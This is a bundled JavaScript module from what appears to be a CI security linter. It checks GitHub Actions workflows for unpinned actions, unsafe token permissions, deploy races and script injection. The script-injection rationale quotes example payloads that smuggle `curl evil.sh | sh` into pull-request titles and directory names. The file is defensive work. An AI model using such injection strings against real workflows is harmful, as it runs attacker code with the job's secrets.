"use strict";
exports.id = 2293;
exports.ids = [2293];
exports.modules = {

/***/ 60484:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.canonicalJson = canonicalJson;
/** JSON with object keys sorted at every level: equal values give equal text, whatever the key order. */
function canonicalJson(v) {
    if (Array.isArray(v))
        return `[${v.map(canonicalJson).join(',')}]`;
    if (v && typeof v === 'object') {
        return `{${Object.keys(v)
            .sort()
            .map((k) => `${JSON.stringify(k)}:${canonicalJson(v[k])}`)
            .join(',')}}`;
    }
    return JSON.stringify(v) ?? 'null';
}


/***/ }),

/***/ 63305:
/***/ ((__unused_webpack_module, exports) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.jobEnvironment = jobEnvironment;
exports.jobsFor = jobsFor;
exports.talksOnlyToGitHub = talksOnlyToGitHub;
exports.publishesPackagesOnly = publishesPackagesOnly;
const EXPRESSION = /\$\{\{/;
/** The environment a job runs under: its `environment:`, or the `environment` input of the reusable workflow it calls. */
function jobEnvironment(job) {
    if (job.environment !== undefined)
        return job.environment;
    const input = job.with.environment ?? job.with['environment-name'] ?? job.with.env;
    return typeof input === 'string' ? input : undefined;
}
/**
 * Jobs that run under `env`. An expression (`${{ inputs.environment }}`) may name any environment;
 * it counts for every one, since the caller decides.
 */
function jobsFor(workflows, env) {
    return workflows.flatMap((workflow) => workflow.jobs
        .filter((job) => {
        const name = jobEnvironment(job);
        return name !== undefined && (EXPRESSION.test(name) || name.trim().toLowerCase() === env.toLowerCase());
    })
        .map((job) => ({ workflow, job })));
}
/** Actions that only talk to GitHub: check out, mint a token, script the API, read Dependabot's metadata, approve or merge pull requests. */
const GITHUB_ONLY_ACTION = /^(?:actions\/(?:checkout|create-github-app-token|github-script)|dependabot\/fetch-metadata|peter-evans\/[\w.-]+|hmarr\/auto-approve-action|pascalgn\/automerge-action|fastify\/github-action-merge-dependabot|ahmadnassri\/action-dependabot-auto-merge)(?:@|$)/i;
/** A shell line of a `run:` that only talks to GitHub or prints: `gh ...`, `git ...`, `echo`, a variable assignment. */
const GITHUB_ONLY_COMMAND = /^(?:gh|git|echo|printf|export|set|true|[A-Za-z_][A-Za-z0-9_]*=\S*)(?:\s|$)/;
/**
 * Whether a job under an environment deploys nothing: each of its steps only talks to GitHub
 * (approving or merging a pull request with the environment's app key, labelling, commenting). Such a
 * job uses its environment to scope a secret, not as a deployment target.
 */
function talksOnlyToGitHub(job) {
    if (!job.steps.length)
        return false;
    return job.steps.every((step) => {
        if (step.uses !== undefined)
            return GITHUB_ONLY_ACTION.test(step.uses.trim());
        if (step.run === undefined)
            return false;
        const lines = step.run
            .replace(/\\\n/g, ' ')
            .split('\n')
            .map((line) => line.trim())
            .filter((line) => line && !line.startsWith('#'));
        return lines.length > 0 && lines.every((line) => line.split(/\s*(?:&&|\|\||;)\s*/).every((part) => !part || GITHUB_ONLY_COMMAND.test(part)));
    });
}
/** Steps that publish a package version to a registry (Helm charts included): immutable once published, nothing left behind by a slower run. */
const PUBLISH_ACTION = /^(?:pypa\/gh-action-pypi-publish|JS-DevTools\/npm-publish|katyo\/publish-crates|rubygems\/release-gem|goreleaser\/goreleaser-action|helm\/chart-releaser-action|appany\/helm-oci-chart-releaser)(?:@|$)/i;
const PUBLISH_COMMAND = /(?:^|[\s;&|(])(?:npm\s+publish|pnpm\s+publish|yarn\s+(?:npm\s+)?publish|twine\s+upload|poetry\s+publish|uv\s+publish|hatch\s+publish|flit\s+publish|cargo\s+publish|gem\s+push|dotnet\s+nuget\s+push|nuget\s+push|goreleaser\s+release|helm\s+(?:push|cm-push)|cr\s+upload)\b/;
/** Commands and actions that change a running environment. */
const DEPLOY_COMMAND = /(?:^|[\s;&|(/_-])(?:kubectl|helm\s+(?:upgrade|install|rollback)|helmfile|kustomize|docker\s+(?:stack|service|compose|-H)|docker-compose|ssh|scp|rsync|terraform|tofu|pulumi|ansible-playbook|flux|argocd|aws\s+(?:ecs|lambda|s3|cloudformation|deploy)|gcloud\s+(?:run|app|functions)|az\s+(?:webapp|containerapp|functionapp)|vercel|netlify|flyctl|fly\s+deploy|wrangler|serverless|sls\s+deploy|cdk\s+deploy|portainer|stackgate\s+deploy|deploy)\b/i;
/**
 * Whether a job under an environment publishes package versions and deploys nothing: a step publishes
 * to a registry (PyPI, npm, crates.io, RubyGems, NuGet, GoReleaser, Helm chart repositories) and none
 * runs a deployment tool.
 * A version, once published, is immutable: two runs cannot leave the registry behind each other.
 */
function publishesPackagesOnly(job) {
    const publishes = job.steps.some((step) => (step.uses !== undefined && PUBLISH_ACTION.test(step.uses.trim())) || PUBLISH_COMMAND.test(step.run ?? ''));
    return publishes && !job.steps.some((step) => DEPLOY_COMMAND.test(step.run ?? '') || DEPLOY_COMMAND.test(step.uses ?? ''));
}


/***/ }),

/***/ 28235:
/***/ ((__unused_webpack_module, exports) => {


/** The rules of a repository's root Makefile, as far as stackgate reads them: targets, prerequisites and recipe lines. */
Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.rootMakefile = rootMakefile;
exports.parseMakefile = parseMakefile;
/** The root Makefile (Makefile, makefile or GNUmakefile), parsed; undefined when there is none. */
function rootMakefile(read) {
    const text = read('Makefile') ?? read('makefile') ?? read('GNUmakefile');
    return text === undefined ? undefined : parseMakefile(text);
}
/** Rules `target [target...]: prerequisites` and their tab-indented recipes; a target named twice gathers both. */
function parseMakefile(text) {
    const rules = new Map();
    let first;
    let current = [];
    for (const line of text.split(/\r?\n/)) {
        if (line.startsWith('\t')) {
            for (const rule of current)
                rule.recipe.push(line.slice(1));
            continue;
        }
        const rule = /^([A-Za-z_][\w./-]*(?:\s+[A-Za-z_][\w./-]*)*)\s*:(?!=)([^#]*)/.exec(line);
        if (!rule) {
            if (line.trim() && !line.trim().startsWith('#'))
                current = [];
            continue;
        }
        const prerequisites = rule[2].split(/\s+/).filter(Boolean);
        current = rule[1].split(/\s+/).map((target) => {
            const entry = rules.get(target) ?? { prerequisites: [], recipe: [] };
            entry.prerequisites.push(...prerequisites);
            rules.set(target, entry);
            if (first === undefined && !target.startsWith('.'))
                first = target;
            return entry;
        });
    }
    return { rules, first };
}


/***/ }),

/***/ 17535:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.EXPRESSION = exports.TaintAnalysis = void 0;
exports.references = references;
exports.expressionsIn = expressionsIn;
/**
 * Where a `${{ … }}` expression's text comes from: whether someone who opens an issue, a pull
 * request or a branch chooses it. Besides the event fields GitHub's hardening guide lists, text
 * flows through the workflow itself, and the analysis follows it:
 *
 * - `steps.<id>.outputs.<name>` of actions that output file or directory names of the change
 *   (stackgate validate's `stacks`, tj-actions/changed-files, dorny/paths-filter's `*_files`);
 * - `needs.<job>.outputs.<name>` when that job's output is set from tainted text;
 * - `matrix.<key>` when the job's `strategy.matrix.<key>` is built from tainted text
 *   (`fromJSON(needs.validate.outputs.stacks)`);
 * - `env.<NAME>` when the step's, job's or workflow's env sets NAME from tainted text.
 */
const yaml_tree_1 = __webpack_require__(43183);
const _workflows_1 = __webpack_require__(78197);
/** Event fields whose text the author of an issue, a comment, a branch or a commit chooses (`*` is an array index). */
const UNTRUSTED_FIELDS = [
    'github.head_ref',
    'github.event.issue.title',
    'github.event.issue.body',
    'github.event.pull_request.title',
    'github.event.pull_request.body',
    'github.event.pull_request.head.ref',
    'github.event.pull_request.head.label',
    'github.event.pull_request.head.repo.default_branch',
    'github.event.comment.body',
    'github.event.review.body',
    'github.event.review_comment.body',
    'github.event.discussion.title',
    'github.event.discussion.body',
    'github.event.pages.*.page_name',
    'github.event.commits.*.message',
    'github.event.commits.*.author.email',
    'github.event.commits.*.author.name',
    'github.event.head_commit.message',
    'github.event.head_commit.author.email',
    'github.event.head_commit.author.name',
    'github.event.workflow_run.head_branch',
    'github.event.workflow_run.display_title',
    'github.event.workflow_run.head_commit.message',
    'github.event.workflow_run.head_commit.author.email',
    'github.event.workflow_run.head_commit.author.name',
    'github.event.workflow_run.pull_requests.*.head.ref',
].map((f) => f.split('.'));
/** Contexts referenced in an expression: `a.b[0].c` -> `a.b.*.c`; string literals are skipped. */
function references(expression) {
    const code = expression.replace(/'(?:[^']|'')*'/g, "''");
    const out = [];
    for (const m of code.matchAll(/[A-Za-z_][\w-]*(?:\s*(?:\.\s*[\w-]+|\.\*|\[[^\]]*\]))*/g)) {
        const ref = m[0]
            .replace(/\s+/g, '')
            .replace(/\[\s*'([^']*)'\s*\]/g, '.$1')
            .replace(/\[[^\]]*\]|\.\*/g, '.*');
        if (ref.includes('.'))
            out.push(ref);
    }
    return out;
}
function matchesField(ref, field) {
    if (ref.length > field.length)
        return undefined;
    for (let i = 0; i < ref.length; i++)
        if (field[i] !== '*' && ref[i] !== field[i] && ref[i] !== '*')
            return undefined;
    return ref.length === field.length ? 'exact' : 'prefix';
}
/** Step outputs of well-known actions that list files or directories of the change. */
function fileListingOutput(step, output) {
    if ((0, _workflows_1.stackgateAction)(step.uses) === 'validate' && output === 'stacks')
        return 'the Compose stacks the change touched (directory names)';
    const name = step.uses ? (0, _workflows_1.actionName)(step.uses) : '';
    if (name === 'tj-actions/changed-files')
        return `file names of the change (${name})`;
    if (name === 'dorny/paths-filter' && output.endsWith('_files'))
        return `file names of the change (${name})`;
    return undefined;
}
class TaintAnalysis {
    workflow;
    jobOutputCache = new Map();
    constructor(workflow) {
        this.workflow = workflow;
    }
    /** The first tainted reference of an expression written in `job` (at `step`, when in a step). */
    taintOf(expression, job, step, depth = 0) {
        if (depth > 8)
            return undefined; // Outputs that feed each other in a loop are GitHub's error to report.
        for (const reference of references(expression)) {
            const source = this.sourceOf(reference, job, step, depth);
            if (source)
                return { reference, source };
        }
        return undefined;
    }
    sourceOf(reference, job, step, depth) {
        const parts = reference.split('.');
        for (const field of UNTRUSTED_FIELDS) {
            const match = matchesField(parts, field);
            if (match === 'exact')
                return reference;
            if (match === 'prefix' && parts.length >= 2)
                return `${reference} (it holds ${field.join('.')})`;
        }
        const [root, a, b, c] = parts;
        if (root === 'steps' && b === 'outputs' && c) {
            const producer = job.steps.find((s) => (0, yaml_tree_1.scalarOf)(s.node.entries.get('id')) === a);
            return producer ? fileListingOutput(producer, c) : undefined;
        }
        if (root === 'needs' && b === 'outputs' && c) {
            const taint = this.jobOutput(a, c, depth);
            return taint ? `needs.${a}.outputs.${c}, set from ${taint.source}` : undefined;
        }
        if (root === 'matrix' && a) {
            // `matrix: { stack: … }`, entries added by `include`, or the whole matrix as one expression.
            const matrix = (0, yaml_tree_1.getNode)(job.node, ['strategy', 'matrix']);
            const value = matrix?.kind === 'map'
                ? { kind: 'seq', items: [matrix.entries.get(a), matrix.entries.get('include')].filter((n) => !!n) }
                : matrix;
            const taint = expressionsIn(value)
                .map((e) => this.taintOf(e, job, undefined, depth + 1))
                .find(Boolean);
            return taint ? `the matrix of job "${job.id}", built from ${taint.source}` : undefined;
        }
        if (root === 'env' && a) {
            for (const scope of [step?.node, job.node, this.workflow.root]) {
                const value = scope ? (0, yaml_tree_1.getNode)(scope, ['env', a]) : undefined;
                if (!value)
                    continue;
                const taint = expressionsIn(value)
                    .map((e) => this.taintOf(e, job, step, depth + 1))
                    .find(Boolean);
                return taint ? `env.${a}, set from ${taint.source}` : undefined;
            }
        }
        return undefined;
    }
    jobOutput(jobId, output, depth) {
        const key = `${jobId}.${output}`;
        if (!this.jobOutputCache.has(key)) {
            this.jobOutputCache.set(key, null); // A cycle reads as "not tainted" while it is being computed.
            const job = this.workflow.jobs.find((j) => j.id === jobId);
            const value = job ? (0, yaml_tree_1.getNode)(job.node, ['outputs', output]) : undefined;
            const taint = job
                ? expressionsIn(value)
                    .map((e) => this.taintOf(e, job, undefined, depth + 1))
                    .find(Boolean)
                : undefined;
            this.jobOutputCache.set(key, taint ?? null);
        }
        return this.jobOutputCache.get(key) ?? undefined;
    }
}
exports.TaintAnalysis = TaintAnalysis;
/** `${{ … }}`: everything up to the first `}}` (an expression may hold `'{0}'`). */
exports.EXPRESSION = /\$\{\{\s*([\s\S]*?)\s*\}\}/g;
/** The `${{ … }}` expressions written in a scalar (and in every scalar of a list or map). */
function expressionsIn(node) {
    if (!node)
        return [];
    if (node.kind === 'scalar')
        return typeof node.value === 'string' ? [...node.value.matchAll(exports.EXPRESSION)].map((m) => m[1]) : [];
    if (node.kind === 'seq')
        return node.items.flatMap(expressionsIn);
    return [...node.entries.values()].flatMap(expressionsIn);
}


/***/ }),

/***/ 78197:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
exports.listWorkflows = listWorkflows;
exports.actionName = actionName;
exports.stackgateAction = stackgateAction;
exports.runsStackgate = runsStackgate;
exports.jobsOn = jobsOn;
exports.readPermissions = readPermissions;
/**
 * GitHub Actions workflows of a repository (`.github/workflows/*.yml|yaml`) read into a small model
 * with positions: triggers, permissions, jobs, their environment and steps. The ci/* checks share it.
 */
const yaml_tree_1 = __webpack_require__(43183);
const is_record_1 = __webpack_require__(32789);
const WORKFLOW_PATH = /^\.github\/workflows\/[^/]+\.ya?ml$/;
/** Workflows per run (its path list): every ci/* check reads the same ones. */
const workflowsOf = new WeakMap();
/** Every workflow that parses into a map with `jobs`; others are GitHub's to report. */
function listWorkflows(ctx) {
    let workflows = workflowsOf.get(ctx.paths);
    if (!workflows)
        workflowsOf.set(ctx.paths, (workflows = readWorkflows(ctx)));
    return workflows;
}
function readWorkflows(ctx) {
    const out = [];
    for (const file of ctx.paths) {
        if (!WORKFLOW_PATH.test(file))
            continue;
        const root = ctx.yaml(file)?.documents[0]?.root;
        if (root?.kind !== 'map')
            continue;
        const jobsNode = root.entries.get('jobs');
        if (jobsNode?.kind !== 'map')
            continue;
        // YAML 1.1 readers turn `on` into true; the parser here keeps the key as written.
        const onNode = root.entries.get('on') ?? root.entries.get('true');
        const on = (0, yaml_tree_1.toPlain)(onNode);
        const events = new Set(typeof on === 'string' ? [on] : Array.isArray(on) ? on.filter((e) => typeof e === 'string') : (0, is_record_1.isRecord)(on) ? Object.keys(on) : []);
        const push = (0, is_record_1.isRecord)(on) ? on.push : undefined;
        const branches = (0, is_record_1.isRecord)(push) && Array.isArray(push.branches) ? push.branches.filter((b) => typeof b === 'string') : undefined;
        out.push({
            file,
            root,
            events,
            pushBranches: branches,
            onLoc: onNode?.keyLoc ?? root.loc,
            permissions: root.entries.get('permissions'),
            hasConcurrency: root.entries.has('concurrency'),
            jobs: [...jobsNode.entries].flatMap(([id, node]) => (node.kind === 'map' ? [readJob(id, node)] : [])),
        });
    }
    return out;
}
function readJob(id, node) {
    const env = node.entries.get('environment');
    const envName = env?.kind === 'map' ? env.entries.get('name') : env;
    const uses = node.entries.get('uses');
    const steps = node.entries.get('steps');
    return {
        id,
        node,
        loc: node.keyLoc ?? node.loc,
        environment: envName?.kind === 'scalar' && envName.value !== null ? String(envName.value) : undefined,
        environmentLoc: envName?.loc,
        uses: typeof (0, yaml_tree_1.scalarOf)(uses) === 'string' ? String((0, yaml_tree_1.scalarOf)(uses)) : undefined,
        usesLoc: uses?.loc,
        with: asRecord((0, yaml_tree_1.toPlain)(node.entries.get('with'))),
        permissions: node.entries.get('permissions'),
        steps: steps?.kind === 'seq' ? steps.items.flatMap((s) => (s.kind === 'map' ? [readStep(s)] : [])) : [],
        hasTimeout: node.entries.has('timeout-minutes'),
        hasConcurrency: node.entries.has('concurrency'),
    };
}
function readStep(node) {
    const uses = node.entries.get('uses');
    const run = node.entries.get('run');
    const withNode = node.entries.get('with');
    return {
        node,
        loc: node.loc,
        uses: typeof (0, yaml_tree_1.scalarOf)(uses) === 'string' ? String((0, yaml_tree_1.scalarOf)(uses)) : undefined,
        usesLoc: uses?.loc,
        run: typeof (0, yaml_tree_1.scalarOf)(run) === 'string' ? String((0, yaml_tree_1.scalarOf)(run)) : undefined,
        runLoc: run?.loc,
        with: asRecord((0, yaml_tree_1.toPlain)(withNode)),
        withNode: withNode?.kind === 'map' ? withNode : undefined,
    };
}
function asRecord(v) {
    return (0, is_record_1.isRecord)(v) ? v : {};
}
/** `owner/repo[/path]` of a `uses:` reference, lower-case, without the ref. */
function actionName(uses) {
    return uses.split('@')[0].toLowerCase();
}
/** `stackgate/stackgate@v1` (the all-in-one check), `…/stackgate/actions/<name>@…`: the action name, `''` for the top level. */
function stackgateAction(uses) {
    if (!uses)
        return undefined;
    const m = /^[\w.-]+\/stackgate(?:\/actions\/([\w-]+))?@/i.exec(uses);
    return m ? (m[1] ?? '').toLowerCase() : undefined;
}
/** Whether a `run:` script calls `stackgate <command>` (installed, through npx or the bundle). */
function runsStackgate(run, commands) {
    if (!run)
        return false;
    return new RegExp(`\\bstackgate(?:\\.js)?\\s+(?:${commands.join('|')})\\b`).test(run);
}
/** Jobs of workflows that one of `events` triggers. */
function jobsOn(workflows, events) {
    return workflows.filter((w) => events.some((e) => w.events.has(e))).flatMap((workflow) => workflow.jobs.map((job) => ({ workflow, job })));
}
/** `permissions:` as scope -> access, or the shorthand (`read-all`, `write-all`, `{}`). */
function readPermissions(node) {
    if (!node)
        return undefined;
    if (node.kind === 'scalar')
        return { shorthand: String(node.value), scopes: {} };
    const plain = (0, yaml_tree_1.toPlain)(node);
    return { scopes: (0, is_record_1.isRecord)(plain) ? Object.fromEntries(Object.entries(plain).map(([k, v]) => [k, String(v)])) : {} };
}


/***/ }),

/***/ 97132:
/***/ (function(__unused_webpack_module, exports, __webpack_require__) {


var __importDefault = (this && this.__importDefault) || function (mod) {
    return (mod && mod.__esModule) ? mod : { "default": mod };
};
Object.defineProperty(exports, "__esModule", ({ value: true }));
const picomatch_1 = __importDefault(__webpack_require__(14006));
const zod_1 = __webpack_require__(50924);
const types_1 = __webpack_require__(15200);
const _workflows_1 = __webpack_require__(78197);
const FULL_SHA = /@[0-9a-f]{40}$/;
exports["default"] = (0, types_1.defineCheck)({
    id: 'ci/actions-pinned',
    target: 'repository',
    meta: {
        title: 'Action is not pinned to a commit SHA',
        category: 'supply-chain',
        severity: 'warning',
        rationale: "A tag or branch (`@v4`, `@main`) is a pointer its owner, or whoever steals their token, can move: the tj-actions/changed-files compromise rewrote every tag of a popular action to dump runners' secrets into logs. A deploy workflow holds Portainer and cluster credentials. A full commit SHA is the only immutable reference.",
        remediation: "Pin to the full 40-character commit SHA with the version in a comment (`uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2`) and let Dependabot or Renovate update it; exempt owners you trust with this check's `allow` option.",
        messages: {
            unpinned: '{{file}} job "{{job}}" uses {{uses}}, a movable reference: pin it to a full commit SHA',
            unpinnedImage: '{{file}} job "{{job}}" runs the container {{uses}} by tag: pin it by digest (@sha256:…)',
        },
    },
    options: zod_1.z.strictObject({
        allow: zod_1.z.array(zod_1.z.string()).default([]).describe('Actions that may use tags, as owner/repo globs (e.g. "actions/*", "my-org/*").'),
    }),
    check(ctx) {
        const workflows = (0, _workflows_1.listWorkflows)(ctx);
        if (!workflows.length)
            return ctx.notApplicable();
        const allowed = ctx.options.allow.length ? (0, picomatch_1.default)(ctx.options.allow.map((a) => a.toLowerCase())) : () => false;
        for (const w of workflows) {
            for (const job of w.jobs) {
                const refs = [
                    ...(job.uses && job.usesLoc ? [{ uses: job.uses, loc: job.usesLoc }] : []),
                    ...job.steps.flatMap((s) => (s.uses && s.usesLoc ? [{ uses: s.uses, loc: s.usesLoc }] : [])),
                ];
                for (const { uses, loc } of refs) {
                    if (uses.startsWith('./'))
                        continue; // In this repository: reviewed with the change.
                    if (uses.startsWith('docker://')) {
                        if (!/@sha256:[0-9a-f]{64}$/.test(uses))
                            ctx.report({ messageId: 'unpinnedImage', data: { file: w.file, job: job.id, uses }, at: loc });
                        continue;
                    }
                    const name = (0, _workflows_1.actionName)(uses).split('/').slice(0, 2).join('/');
                    if (FULL_SHA.test(uses) || allowed(name))
                        continue;
                    ctx.report({ messageId: 'unpinned', data: { file: w.file, job: job.id, uses }, at: loc });
                }
            }
        }
    },
});


/***/ }),

/***/ 67965:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _environments_1 = __webpack_require__(63305);
const _workflows_1 = __webpack_require__(78197);
exports["default"] = (0, types_1.defineCheck)({
    id: 'ci/deploy-concurrency',
    target: 'repository',
    meta: {
        title: 'Deployments to one environment can run at the same time',
        category: 'reliability',
        severity: 'warning',
        rationale: 'Two merges a minute apart start two deploy runs; without a concurrency group both update the same Portainer stack or Deployment, and the older commit can finish last, leaving the environment behind main while its GitHub Deployment says otherwise. A job whose steps only talk to GitHub (checking out, minting an app token, `gh pr review`/`gh pr merge`, github-script) uses its environment to scope a secret and is not asked; nor is a job that publishes package versions (PyPI, npm, crates.io, RubyGems, NuGet, GoReleaser, Helm chart releases) and runs no deployment tool: a published version is immutable, so no run leaves the registry behind another.',
        remediation: "Give each deploy job (or its workflow) `concurrency: { group: deploy-${{ inputs.environment || 'dev' }}, cancel-in-progress: false }` so runs for one environment queue instead of racing.",
        messages: {
            none: '{{file}} job "{{job}}" deploys to {{environment}} without a concurrency group: two runs can deploy at once',
        },
    },
    check(ctx) {
        // A job calling a reusable workflow is left to the called workflow's own jobs; a job that only
        // talks to GitHub (approving a pull request with the environment's key) or publishes package
        // versions (immutable: no run leaves the registry behind) deploys nothing.
        const deployJobs = (0, _workflows_1.listWorkflows)(ctx).flatMap((w) => w.jobs.filter((j) => !j.uses && (0, _environments_1.jobEnvironment)(j) !== undefined && !(0, _environments_1.talksOnlyToGitHub)(j) && !(0, _environments_1.publishesPackagesOnly)(j)).map((job) => ({ w, job })));
        if (!deployJobs.length)
            return ctx.notApplicable();
        for (const { w, job } of deployJobs) {
            if (!w.hasConcurrency && !job.hasConcurrency)
                ctx.report({ messageId: 'none', data: { file: w.file, job: job.id, environment: (0, _environments_1.jobEnvironment)(job) }, at: job.environmentLoc ?? job.loc });
        }
    },
});


/***/ }),

/***/ 13792:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _environments_1 = __webpack_require__(63305);
const _workflows_1 = __webpack_require__(78197);
exports["default"] = (0, types_1.defineCheck)({
    id: 'ci/deploy-on-merge',
    target: 'repository',
    meta: {
        title: 'Merges are not deployed to the first environment',
        category: 'operations',
        severity: 'warning',
        rationale: 'Promotion proves a commit in one environment before the next. When nothing deploys main to dev on merge, what reaches staging was never run anywhere, and the GitHub Deployment history that promotion gates read stays empty.',
        remediation: 'Add a workflow on `push` to the default branch with a job `environment: dev` that deploys (e.g. `uses: <owner>/stackgate/actions/deploy@v1`) and smoke-tests the stack. GitOps setups where Portainer polls the branch can turn this check off.',
        messages: {
            none: 'no workflow deploys to {{environment}} when the default branch changes: expected a job with `environment: {{environment}}` (or stackgate deploy) in a workflow triggered by push',
        },
    },
    check(ctx) {
        const workflows = (0, _workflows_1.listWorkflows)(ctx);
        const first = ctx.compose.environments.map((e) => e.name)[0];
        if (!workflows.length || !first)
            return ctx.notApplicable();
        const onMerge = workflows.filter((w) => w.events.has('push') || w.events.has('workflow_run'));
        const deploys = (0, _environments_1.jobsFor)(onMerge, first).length > 0 ||
            onMerge.some((w) => w.jobs.some((job) => job.steps.some((s) => (0, _workflows_1.stackgateAction)(s.uses) === 'deploy' || (0, _workflows_1.runsStackgate)(s.run, ['deploy']))));
        if (!deploys)
            ctx.report({ messageId: 'none', data: { environment: first }, at: { file: workflows[0].file, line: 1, column: 1 } });
    },
});


/***/ }),

/***/ 26871:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _workflows_1 = __webpack_require__(78197);
exports["default"] = (0, types_1.defineCheck)({
    id: 'ci/job-timeout',
    target: 'repository',
    meta: {
        title: 'Job has no timeout',
        category: 'reliability',
        severity: 'info',
        rationale: "A job without `timeout-minutes` may run for GitHub's default of six hours: a smoke test waiting on a server that never comes up, or a deploy stuck on a lock, holds the runner, the concurrency group and the next deploy all that time.",
        remediation: 'Set `timeout-minutes:` on every job to a few times its usual duration (e.g. `timeout-minutes: 15`).',
        messages: {
            none: '{{file}} job "{{job}}" sets no timeout-minutes and may run for 6 hours',
        },
    },
    check(ctx) {
        const workflows = (0, _workflows_1.listWorkflows)(ctx);
        if (!workflows.length)
            return ctx.notApplicable();
        for (const w of workflows) {
            // A call of a reusable workflow takes its jobs' timeouts.
            for (const job of w.jobs)
                if (!job.uses && !job.hasTimeout)
                    ctx.report({ messageId: 'none', data: { file: w.file, job: job.id }, at: job.loc });
        }
    },
});


/***/ }),

/***/ 40970:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _workflows_1 = __webpack_require__(78197);
exports["default"] = (0, types_1.defineCheck)({
    id: 'ci/permissions',
    target: 'repository',
    meta: {
        title: 'Workflow token permissions are not least-privilege',
        category: 'security',
        severity: 'warning',
        rationale: "Without `permissions:` the GITHUB_TOKEN gets the repository's default, read-write on every scope in repositories created before February 2023 and in many organisations. Any step, including a compromised third-party action, can then push to main, rewrite releases or approve deployments. Write scopes at the top of a workflow reach every job, also those that only lint.",
        remediation: 'Declare `permissions: { contents: read }` at the top of each workflow and grant write scopes only in the jobs that need them (`pull-requests: write` for the comment job, `deployments: write` for the deploy job).',
        messages: {
            missing: '{{file}} declares no permissions (neither at the top nor in job "{{job}}"): its token gets the repository default, which may be read-write on every scope',
            writeAll: '{{file}} grants `permissions: write-all`{{where}}: every step can write to every scope',
            broadWrite: '{{file}} grants {{scopes}} at the top, to all {{jobs}} jobs: grant write scopes in the jobs that need them',
        },
    },
    check(ctx) {
        const workflows = (0, _workflows_1.listWorkflows)(ctx);
        if (!workflows.length)
            return ctx.notApplicable();
        for (const w of workflows) {
            const top = (0, _workflows_1.readPermissions)(w.permissions);
            if (top?.shorthand === 'write-all')
                ctx.report({ messageId: 'writeAll', data: { file: w.file, where: '' }, at: w.permissions.keyLoc ?? w.permissions.loc });
            else if (top && w.jobs.length > 1) {
                const writes = Object.entries(top.scopes)
                    .filter(([, access]) => access === 'write')
                    .map(([scope]) => `${scope}: write`);
                if (writes.length)
                    ctx.report({
                        messageId: 'broadWrite',
                        data: { file: w.file, scopes: writes.join(', '), jobs: w.jobs.length },
                        at: w.permissions.keyLoc ?? w.permissions.loc,
                    });
            }
            for (const job of w.jobs) {
                const own = (0, _workflows_1.readPermissions)(job.permissions);
                if (own?.shorthand === 'write-all')
                    ctx.report({ messageId: 'writeAll', data: { file: w.file, where: ` in job "${job.id}"` }, at: job.permissions.keyLoc ?? job.permissions.loc });
                else if (!top && !own)
                    ctx.report({ messageId: 'missing', data: { file: w.file, job: job.id }, at: job.loc });
            }
        }
    },
});


/***/ }),

/***/ 6027:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const missing_location_1 = __webpack_require__(74521);
const types_1 = __webpack_require__(15200);
const _environments_1 = __webpack_require__(63305);
const _workflows_1 = __webpack_require__(78197);
exports["default"] = (0, types_1.defineCheck)({
    id: 'ci/promotion-gated',
    target: 'repository',
    meta: {
        title: 'Promotion does not run under a GitHub environment',
        category: 'operations',
        severity: 'warning',
        rationale: "Required reviewers, wait timers and branch policies of a GitHub environment only hold for jobs that declare `environment:`. A job that deploys staging or prod without it runs the moment it is triggered, with the environment's secrets nowhere in reach and no release manager asked.",
        remediation: 'Deploy each later environment from its own job with `environment: staging` / `environment: prod`, and give those environments required reviewers in the repository settings; stackgate gate then proves the same commit passed the environment before.',
        messages: {
            missing: 'no workflow job runs under the GitHub environment(s) {{environments}}, so promotion to them is not gated by environment protection rules',
        },
    },
    check(ctx) {
        const workflows = (0, _workflows_1.listWorkflows)(ctx);
        const later = ctx.compose.environments.map((e) => e.name).slice(1);
        if (!workflows.length || !later.length)
            return ctx.notApplicable();
        const missing = later.filter((env) => !(0, _environments_1.jobsFor)(workflows, env).length);
        if (missing.length)
            ctx.report({
                messageId: 'missing',
                data: { environments: missing.join(', ') },
                at: ctx.configFile ? (0, missing_location_1.missingLocation)(ctx) : { file: workflows[0].file, line: 1, column: 1 },
            });
    },
});


/***/ }),

/***/ 55051:
/***/ ((__unused_webpack_module, exports, __webpack_require__) => {


Object.defineProperty(exports, "__esModule", ({ value: true }));
const types_1 = __webpack_require__(15200);
const _taint_1 = __webpack_require__(17535);
const _workflows_1 = __webpack_require__(78197);
exports["default"] = (0, types_1.defineCheck)({
    id: 'ci/script-injection',
    target: 'repository',
    meta: {
        title: 'Untrusted event text is expanded into a script',
        category: 'security',
        severity: 'error',
        rationale: 'The runner pastes `${{ … }}` into the script before the shell reads it. A pull request titled `a"; curl evil.sh | sh; echo "`, a branch named `$(…)` or a directory named `x;curl evil.sh|sh` then runs as code in the job, with its token and secrets. GitHub\'s security hardening guide lists the event fields; the check also follows them (and file or directory names listed by stackgate validate, tj-actions/changed-files and dorny/paths-filter) through job outputs (`needs.*.outputs.*`), `matrix.*` and `env.*`.',
        remediation: 'Pass the value through an environment variable and quote it: `env: { TITLE: ${{ github.event.pull_request.title }} }` then `run: echo "$TITLE"`; in actions/github-script read `context.payload` instead of expanding it into the script.',
        messages: {
            injection: '{{file}} job "{{job}}" expands {{expression}} into a {{where}}: a crafted value runs as code; pass it through env: and quote it',
            derived: '{{file}} job "{{job}}" expands {{expression}} into a {{where}}, and it carries {{source}}: a crafted value runs as code; pass it through env: and quote it',
        },
    },
    check(ctx) {
